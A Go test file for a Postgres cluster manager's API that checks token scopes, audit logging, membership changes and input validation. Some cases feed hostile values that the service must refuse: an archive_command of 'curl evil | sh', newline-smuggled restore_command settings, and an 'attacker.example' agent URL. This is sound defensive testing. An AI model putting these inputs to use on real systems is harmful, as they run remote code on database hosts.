package service_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/go-chi/chi/v5"

	"github.com/clustermgr/clustermgr/internal/authtest"
	"github.com/clustermgr/clustermgr/internal/pgtest"
	"github.com/clustermgr/clustermgr/pkg/api"
	"github.com/clustermgr/clustermgr/pkg/meta"
	"github.com/clustermgr/clustermgr/pkg/replica"
	"github.com/clustermgr/clustermgr/pkg/service"
)

// routeList lists every route of the router as "METHOD /path" with its
// parameters filled in.
func routeList(t *testing.T, s *service.Service) []string {
	t.Helper()
	fill := strings.NewReplacer("{cluster}", "app", "{shard}", "s1", "{node}", "pg1", "{id}", "m9", "{name}", "nobody", "{profile}", "heap")
	var out []string
	err := chi.Walk(s.Routes(), func(method, route string, _ http.Handler, _ ...func(http.Handler) http.Handler) error {
		out = append(out, method+" "+fill.Replace(route))
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(out) < 30 {
		t.Fatalf("walked only %d routes: %v", len(out), out)
	}
	return out
}

// adminRoutes are the routes only an admin token may use; every other
// mutation needs operate and every other GET read. A new route must be
// classified here or in the router, or TestAuth_Scopes fails.
var adminRoutes = []string{
	"POST /v1/manager/members", "DELETE /v1/manager/members/m9", "GET /v1/manager/pprof/heap",
	"GET /v1/tokens", "POST /v1/tokens", "DELETE /v1/tokens/nobody", "GET /v1/audit",
	"POST /v1/agents", "DELETE /v1/agents/nobody",
	"POST /v1/clusters", "DELETE /v1/clusters/app",
	"POST /v1/clusters/app/shards", "PATCH /v1/clusters/app/shards/s1", "DELETE /v1/clusters/app/shards/s1",
	"POST /v1/clusters/app/shards/s1/restore", "POST /v1/clusters/app/shards/s1/nodes", "DELETE /v1/clusters/app/shards/s1/nodes/pg1",
	"GET /v1/webhooks", "POST /v1/webhooks", "DELETE /v1/webhooks/nobody", "GET /v1/webhooks/nobody/deliveries",
}

// openRoutes need no token.
var openRoutes = []string{"GET /", "GET /ui/{file}", "GET /v1/health", "GET /v1/openapi.json"}

// peerRoutes take the group's peer credential only (TestViews_PeerRoutes).
var peerRoutes = []string{"POST /v1/internal/views", "POST /v1/internal/watch"}

func newToken(t *testing.T, u, name, scope string) string {
	t.Helper()
	r := do(t, "POST", u+"/v1/tokens", api.TokenRequest{Name: name, Scope: scope})
	mustStatus(t, r, http.StatusCreated)
	var nt api.NewToken
	r.decode(t, &nt)
	if nt.Secret == "" || nt.Name != name || nt.Scope != scope || nt.CreatedBy != "admin" {
		t.Fatalf("created token %+v", nt)
	}
	return nt.Secret
}

func TestAuth_EveryRouteNeedsAToken(t *testing.T) {
	rep := startSingle(t)
	u := rep.URL
	for _, rt := range routeList(t, rep.Service) {
		method, path, _ := strings.Cut(rt, " ")
		for _, h := range [][]string{
			{"Authorization", ""},
			{"Authorization", "Bearer"},
			{"Authorization", "Basic YWRtaW46YWRtaW4="},
			{"Authorization", "Bearer cmt_notAValidTokenAtAllNotAValidTokenAtAll0000"},
			{"Authorization", "Bearer " + strings.Repeat("x", 5000)},
		} {
			r := do(t, method, u+path, `{}`, h...)
			if slices.Contains(openRoutes, rt) {
				if r.status == http.StatusUnauthorized {
					t.Errorf("%s is open but answered 401", rt)
				}
				continue
			}
			if r.status != http.StatusUnauthorized {
				t.Errorf("%s with %q: status %d, want 401: %s", rt, h[1], r.status, r.body)
				continue
			}
			if r.header.Get("WWW-Authenticate") == "" || r.header.Get("Content-Type") != api.ProblemContentType {
				t.Errorf("%s: 401 without WWW-Authenticate or problem+json: %v", rt, r.header)
			}
			_ = r.problem(t)
		}
	}
	if got := rep.Service.RejectedAuth(); got == 0 {
		t.Fatal("refusals were not counted")
	}
}

func TestAuth_Scopes(t *testing.T) {
	rep := startSingle(t)
	u := rep.URL
	read := newToken(t, u, "reader", "read")
	operate := newToken(t, u, "operator", "operate")
	routes := routeList(t, rep.Service)
	for _, a := range adminRoutes {
		if !slices.Contains(routes, a) {
			t.Errorf("adminRoutes names %s, which the router does not have", a)
		}
	}
	for _, rt := range routes {
		if slices.Contains(openRoutes, rt) || slices.Contains(peerRoutes, rt) {
			continue
		}
		method, path, _ := strings.Cut(rt, " ")
		admin := slices.Contains(adminRoutes, rt)
		for _, tc := range []struct {
			token, scope string
			allowed      bool
		}{
			{read, "read", method == "GET" && !admin},
			{operate, "operate", !admin},
			{authtest.AdminToken, "admin", true},
		} {
			r := do(t, method, u+path, `{}`, "Authorization", "Bearer "+tc.token)
			switch {
			case tc.allowed && (r.status == http.StatusForbidden || r.status == http.StatusUnauthorized):
				t.Errorf("%s with a %s token: %d: %s", rt, tc.scope, r.status, r.body)
			case !tc.allowed && r.status != http.StatusForbidden:
				t.Errorf("%s with a %s token: %d, want 403: %s", rt, tc.scope, r.status, r.body)
			case !tc.allowed:
				if p := r.problem(t); !strings.Contains(p.Detail, tc.scope) {
					t.Errorf("%s: 403 detail %q does not name the token's scope", rt, p.Detail)
				}
			}
		}
	}
	// Operate may pause and resume a cluster, not change its credentials.
	mustStatus(t, do(t, "POST", u+"/v1/clusters", api.ClusterCreate{Name: "c1"}), http.StatusCreated)
	mustStatus(t, do(t, "PATCH", u+"/v1/clusters/c1", `{"auto_failover":false}`, "Authorization", "Bearer "+operate), http.StatusOK)
	mustStatus(t, do(t, "PATCH", u+"/v1/clusters/c1", `{"pg_password":"x"}`, "Authorization", "Bearer "+operate), http.StatusForbidden)
}

func TestAuth_TokenLifecycle(t *testing.T) {
	rep := startSingle(t)
	u := rep.URL
	secret := newToken(t, u, "ci", "read")
	mustStatus(t, do(t, "GET", u+"/v1/clusters", nil, "Authorization", "Bearer "+secret), http.StatusOK)

	// The list shows neither secrets nor hashes.
	r := do(t, "GET", u+"/v1/tokens", nil)
	mustStatus(t, r, http.StatusOK)
	var toks []api.Token
	r.decode(t, &toks)
	if len(toks) != 2 || toks[0].Name != "admin" || toks[1].Name != "ci" || toks[1].Scope != "read" {
		t.Fatalf("tokens %+v", toks)
	}
	var hash string
	_ = rep.Store.View(context.Background(), meta.Stale, func(st *meta.State) error {
		hash = st.Tokens["ci"].Hash
		return nil
	})
	if strings.Contains(string(r.body), secret) || strings.Contains(string(r.body), hash) {
		t.Fatalf("token list shows a secret or hash: %s", r.body)
	}

	// Bad requests write nothing.
	index := func() uint64 {
		info, _ := rep.Store.Info()
		return info.AppliedIndex
	}
	before := index()
	for _, tc := range []struct {
		body  string
		field string
	}{
		{`{"name":"../X Y","scope":"read"}`, "name"},
		{`{"name":"ok","scope":"root"}`, "scope"},
		{`{"name":"ok"}`, "scope"},
	} {
		r := do(t, "POST", u+"/v1/tokens", tc.body)
		mustStatus(t, r, http.StatusBadRequest)
		if p := r.problem(t); p.Field != tc.field {
			t.Errorf("%s: field %q, want %q", tc.body, p.Field, tc.field)
		}
	}
	// Refused requests write nothing to the log.
	if got := index(); got != before {
		t.Fatalf("refused requests moved the applied index from %d to %d", before, got)
	}
	mustStatus(t, do(t, "POST", u+"/v1/tokens", `{"name":"ci","scope":"admin"}`), http.StatusConflict)

	// Revoked, the secret no longer works; the last admin token stays.
	mustStatus(t, do(t, "DELETE", u+"/v1/tokens/ci", nil), http.StatusNoContent)
	mustStatus(t, do(t, "GET", u+"/v1/clusters", nil, "Authorization", "Bearer "+secret), http.StatusUnauthorized)
	mustStatus(t, do(t, "DELETE", u+"/v1/tokens/admin", nil), http.StatusConflict)
	second := newToken(t, u, "admin2", "admin")
	mustStatus(t, do(t, "DELETE", u+"/v1/tokens/admin", nil, "Authorization", "Bearer "+second), http.StatusNoContent)
	mustStatus(t, do(t, "GET", u+"/v1/clusters", nil), http.StatusUnauthorized)
}

func TestAuth_AuditTrail(t *testing.T) {
	reps := startGroup(t, 3)
	_, followers := leaderOf(t, reps)
	op := newToken(t, followers[0].URL, "ops", "admin")
	const password = "pw-in-the-audit-test"
	mustStatus(t, do(t, "POST", followers[0].URL+"/v1/clusters", api.ClusterCreate{Name: "app", PGPassword: password}, "Authorization", "Bearer "+op), http.StatusCreated)
	mustStatus(t, do(t, "DELETE", followers[0].URL+"/v1/clusters/nope", nil, "Authorization", "Bearer "+op), http.StatusNotFound)
	mustStatus(t, do(t, "GET", followers[1].URL+"/v1/clusters", nil, "Authorization", ""), http.StatusUnauthorized)

	r := do(t, "GET", followers[0].URL+"/v1/audit", nil)
	mustStatus(t, r, http.StatusOK)
	if strings.Contains(string(r.body), password) {
		t.Fatalf("the audit trail shows the password: %s", r.body)
	}
	var a api.AuditList
	r.decode(t, &a)
	var create *api.AuditRecord
	for i, rec := range a.Records {
		switch rec.Method + " " + rec.Path {
		case "POST /v1/clusters":
			create = &a.Records[i]
		case "DELETE /v1/clusters/nope":
			t.Fatalf("a refused request is in the audit trail: %+v", rec)
		}
	}
	if create == nil {
		t.Fatalf("audit record missing: %s", r.body)
	}
	if create.Token != "ops" || create.Status != 201 || create.Outcome != "ok" || create.Via != followers[0].Store.ID() || create.Remote == "" || create.At.IsZero() {
		t.Fatalf("create record %+v", *create)
	}
	// The refusal was counted where it happened.
	var counted uint64
	for _, rep := range reps {
		counted += rep.Service.RejectedAuth()
	}
	if counted == 0 {
		t.Fatal("the refused request was not counted")
	}
	// Reading the trail needs admin.
	read := newToken(t, followers[0].URL, "viewer", "read")
	mustStatus(t, do(t, "GET", followers[0].URL+"/v1/audit", nil, "Authorization", "Bearer "+read), http.StatusForbidden)
}

func TestAuth_Membership(t *testing.T) {
	reps := startGroup(t, 3)
	leader, followers := leaderOf(t, reps)
	peer := leader.Service.PeerCredential()
	if peer == "" {
		t.Fatal("no peer credential")
	}
	info, _ := leader.Store.Info()
	var self api.Member
	for _, m := range info.Members {
		if m.ID == leader.Store.ID() {
			self = api.Member{ID: m.ID, RaftAddr: m.RaftAddr, APIAddr: m.APIAddr}
		}
	}
	evil := "http://127.0.0.1:1"
	for _, tc := range []struct {
		name   string
		req    api.JoinRequest
		auth   string
		status int
	}{
		{"no token", api.JoinRequest{ID: "m9", RaftAddr: "127.0.0.1:1", APIAddr: evil}, "", http.StatusUnauthorized},
		{"peer adds a voter", api.JoinRequest{ID: "m9", RaftAddr: "127.0.0.1:1", APIAddr: evil}, "Bearer " + peer, http.StatusConflict},
		{"peer rewrites the leader", api.JoinRequest{ID: self.ID, RaftAddr: self.RaftAddr, APIAddr: evil}, "Bearer " + peer, http.StatusConflict},
		{"peer rewrites a follower's recorded address", api.JoinRequest{ID: followers[1].Store.ID(), RaftAddr: followers[1].Store.RaftAddr(), APIAddr: evil}, "Bearer " + peer, http.StatusConflict},
		{"member id that is not a name", api.JoinRequest{ID: "../X Y", RaftAddr: "127.0.0.1:1", APIAddr: evil}, "Bearer " + authtest.AdminToken, http.StatusBadRequest},
	} {
		r := do(t, "POST", leader.URL+"/v1/manager/members", tc.req, "Authorization", tc.auth)
		if r.status != tc.status {
			t.Errorf("%s: status %d, want %d: %s", tc.name, r.status, tc.status, r.body)
		}
	}
	after, _ := leader.Store.Info()
	for _, m := range after.Members {
		if m.APIAddr == evil || m.ID == "m9" {
			t.Fatalf("member record written: %+v", after.Members)
		}
	}
	// A follower's own record may be written with the peer credential
	// (again: the same address), and an admin may change it.
	f := followers[0]
	r := do(t, "POST", leader.URL+"/v1/manager/members", api.JoinRequest{ID: f.Store.ID(), RaftAddr: f.Store.RaftAddr(), APIAddr: f.URL}, "Authorization", "Bearer "+peer)
	mustStatus(t, r, http.StatusCreated)
	moved := strings.Replace(f.URL, "127.0.0.1", "localhost", 1)
	r = do(t, "POST", leader.URL+"/v1/manager/members", api.JoinRequest{ID: f.Store.ID(), RaftAddr: f.Store.RaftAddr(), APIAddr: moved}, "Authorization", "Bearer "+authtest.AdminToken)
	mustStatus(t, r, http.StatusCreated)
}

// TestValidate_RefusedRequestsDoNotGrowTheLog sends 1,000 refused requests
// of 1 MB each (100 under the race detector): none reaches Raft, so
// raft.db grows by less than 1 MB (it does not grow at all).
func TestValidate_RefusedRequestsDoNotGrowTheLog(t *testing.T) {
	if testing.Short() {
		t.Skip("sends 1 GB of requests")
	}
	n := 1000
	if raceEnabled {
		n = 100
	}
	dir := t.TempDir()
	addr := pgtest.FreePorts(t, 1)[0]
	raftAddr := fmt.Sprintf("127.0.0.1:%d", addr)
	rep, err := replica.Start(replica.Config{
		NodeID: "m1", DataDir: dir, RaftAddr: raftAddr, APIListen: "127.0.0.1:0", Peers: []meta.Peer{{ID: "m1", RaftAddr: raftAddr}},
		Timing: fastTiming(), Logger: quietLogger(), AdminTokenFile: authtest.TokenFile(t), Keyring: authtest.Keyring(),
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = rep.Kill() })
	waitBootstrapped(t, rep)
	mustStatus(t, do(t, "POST", rep.URL+"/v1/clusters", api.ClusterCreate{Name: "app"}), http.StatusCreated)
	size := func() int64 {
		fi, err := os.Stat(filepath.Join(dir, "raft.db"))
		if err != nil {
			t.Fatal(err)
		}
		return fi.Size()
	}
	info, _ := rep.Store.Info()
	before, index := size(), info.CommitIndex
	huge := strings.Repeat("x", 1_000_000)
	bodies := []string{
		`{"name":"` + huge + `"}`,                        // not a name
		`{"name":"app","pg_user":"` + huge + `"}`,        // exists
		`{"name":"n","nodes":[{"name":"` + huge + `"}]}`, // a shard of a cluster that does not exist
	}
	paths := []string{"/v1/clusters", "/v1/clusters", "/v1/clusters/nope/shards"}
	client := &http.Client{Timeout: 10 * time.Second}
	for i := 0; i < n; i++ {
		req, _ := http.NewRequest("POST", rep.URL+paths[i%3], strings.NewReader(bodies[i%3]))
		req.Header.Set("Content-Type", "application/json")
		req.Header.Set("Authorization", "Bearer "+authtest.AdminToken)
		resp, err := client.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode < 400 || resp.StatusCode >= 500 {
			t.Fatalf("request %d: status %d", i, resp.StatusCode)
		}
	}
	info, _ = rep.Store.Info()
	if grew := size() - before; grew >= 1<<20 || info.CommitIndex != index {
		t.Fatalf("%d refused 1 MB requests: raft.db grew by %d bytes, commit index %d -> %d", n, grew, index, info.CommitIndex)
	}
}

func TestValidate_StringsAndListsAreBounded(t *testing.T) {
	u := startSingle(t).URL
	mustStatus(t, do(t, "POST", u+"/v1/clusters", api.ClusterCreate{Name: "app"}), http.StatusCreated)
	nodes := make([]map[string]any, 1001)
	for i := range nodes {
		nodes[i] = map[string]any{"name": fmt.Sprintf("n%d", i)}
	}
	params := map[string]string{"work_mem": strings.Repeat("9", 5000)}
	for _, tc := range []struct {
		path  string
		body  any
		field string
	}{
		{"/v1/clusters", map[string]any{"name": "c2", "pg_password": strings.Repeat("p", 5000)}, "pg_password"},
		{"/v1/clusters/app/shards", map[string]any{"name": "s1", "nodes": nodes}, "nodes"},
		{"/v1/clusters/app/shards", map[string]any{"name": "s1", "nodes": []map[string]any{{"name": "pg1", "host": strings.Repeat("h", 5000)}}}, "nodes[0].host"},
		{"/v1/clusters/app/shards", map[string]any{"name": "s1", "parameters": params, "nodes": []map[string]any{{"name": "pg1"}}}, "parameters.work_mem"},
	} {
		r := do(t, "POST", u+tc.path, tc.body)
		mustStatus(t, r, http.StatusBadRequest)
		p := r.problem(t)
		if p.Field != tc.field || !strings.Contains(p.Detail, "limit") || len(r.body) > 1000 {
			t.Errorf("%s: field %q detail %q (%d bytes), want field %q", tc.path, p.Field, p.Detail, len(r.body), tc.field)
		}
	}
}

func TestValidate_BackupSchedules(t *testing.T) {
	u := startSingle(t).URL
	mustStatus(t, do(t, "POST", u+"/v1/clusters", api.ClusterCreate{Name: "app"}), http.StatusCreated)
	mustStatus(t, do(t, "POST", u+"/v1/clusters/app/shards", map[string]any{"name": "s1", "nodes": []map[string]any{
		{"name": "pg1", "host": "127.0.0.1", "port": 5432, "role": "primary"}}}), http.StatusCreated)
	for _, tc := range []struct{ schedule, detail string }{
		{"0 0 30 2 *", "never fires"},
		{"@every 1s", "at least 1h0m0s apart"},
		{"*/5 * * * *", "5m0s apart"},
		{"0 3,3 * * *", ""}, // once a day: fine
		{"not cron", "not a cron expression"},
	} {
		r := do(t, "PATCH", u+"/v1/clusters/app/shards/s1", map[string]any{"backup_schedule": tc.schedule})
		if tc.detail == "" {
			mustStatus(t, r, http.StatusOK)
			continue
		}
		mustStatus(t, r, http.StatusBadRequest)
		if p := r.problem(t); p.Field != "backup_schedule" || !strings.Contains(p.Detail, tc.detail) {
			t.Errorf("%q: field %q detail %q", tc.schedule, p.Field, p.Detail)
		}
	}
}

func TestValidate_ConfigurationInputCannotBecomeCode(t *testing.T) {
	u := startSingle(t).URL
	for _, tc := range []struct {
		body  map[string]any
		field string
	}{
		{map[string]any{"name": "a", "pg_user": "cm\nhost=evil"}, "settings.pg_user"},
		{map[string]any{"name": "a", "replication_user": "r\r\nx"}, "settings.replication_user"},
		{map[string]any{"name": "a", "pg_password": "pw\x00"}, "settings.pg_password"},
	} {
		r := do(t, "POST", u+"/v1/clusters", tc.body)
		mustStatus(t, r, http.StatusBadRequest)
		if p := r.problem(t); p.Field != tc.field || strings.Contains(p.Detail, "evil") {
			t.Errorf("%v: field %q detail %q", tc.body, p.Field, p.Detail)
		}
	}
	// Provisioning parameters are checked before anything starts (this
	// replica runs no pipeline: a valid request would get 503).
	mustStatus(t, do(t, "POST", u+"/v1/clusters", api.ClusterCreate{Name: "app"}), http.StatusCreated)
	for _, tc := range []struct {
		params map[string]string
		field  string
	}{
		{map[string]string{"archive_command": "curl evil | sh"}, "parameters.archive_command"},
		{map[string]string{"shared_preload_libraries": "evil"}, "parameters.shared_preload_libraries"},
		{map[string]string{"work_mem": "4MB\nrestore_command = 'sh'"}, "parameters.work_mem"},
		{map[string]string{"x\nrestore_command": "sh"}, `parameters."x\nrestore_command"`},
	} {
		body := map[string]any{"name": "s1", "provision": true, "parameters": tc.params,
			"nodes": []map[string]any{{"name": "pg1", "host": "127.0.0.1", "port": 5432, "agent": "http://127.0.0.1:1", "data_dir": "/x/pg1"}}}
		r := do(t, "POST", u+"/v1/clusters/app/shards", body)
		mustStatus(t, r, http.StatusBadRequest)
		if p := r.problem(t); p.Field != tc.field {
			t.Errorf("%v: field %q (%s), want %q", tc.params, p.Field, p.Detail, tc.field)
		}
	}
}

func TestAgents_NodesNameRegisteredAgents(t *testing.T) {
	u := startSingle(t).URL
	mustStatus(t, do(t, "POST", u+"/v1/clusters", api.ClusterCreate{Name: "app"}), http.StatusCreated)
	node := func(agent string) map[string]any {
		return map[string]any{"name": "s1", "nodes": []map[string]any{{"name": "pg1", "host": "127.0.0.1", "port": 5432, "role": "primary", "agent": agent, "data_dir": "/pg/data"}}}
	}
	for _, tc := range []struct{ agent, detail string }{
		{"http://attacker.example:9001", "not the name of a registered agent"},
		{"nobody", "not registered"},
	} {
		r := do(t, "POST", u+"/v1/clusters/app/shards", node(tc.agent))
		mustStatus(t, r, http.StatusBadRequest)
		if p := r.problem(t); p.Field != "nodes[0].agent" || !strings.Contains(p.Detail, tc.detail) {
			t.Errorf("agent %q: field %q detail %q", tc.agent, p.Field, p.Detail)
		}
	}
	for _, bad := range []map[string]any{
		{"name": "h1", "url": "ftp://x"}, {"name": "h1", "url": "http://u:p@h:1"}, {"name": "H 1", "url": "http://h:1"},
	} {
		mustStatus(t, do(t, "POST", u+"/v1/agents", bad), http.StatusBadRequest)
	}
	mustStatus(t, do(t, "POST", u+"/v1/agents", map[string]any{"name": "h1", "url": "http://127.0.0.1:9001"}), http.StatusCreated)
	mustStatus(t, do(t, "POST", u+"/v1/clusters/app/shards", node("h1")), http.StatusCreated)
	r := do(t, "GET", u+"/v1/agents", nil)
	mustStatus(t, r, http.StatusOK)
	if !strings.Contains(string(r.body), `"url":"http://127.0.0.1:9001"`) {
		t.Fatalf("agents: %s", r.body)
	}
	mustStatus(t, do(t, "DELETE", u+"/v1/agents/h1", nil), http.StatusConflict)
}
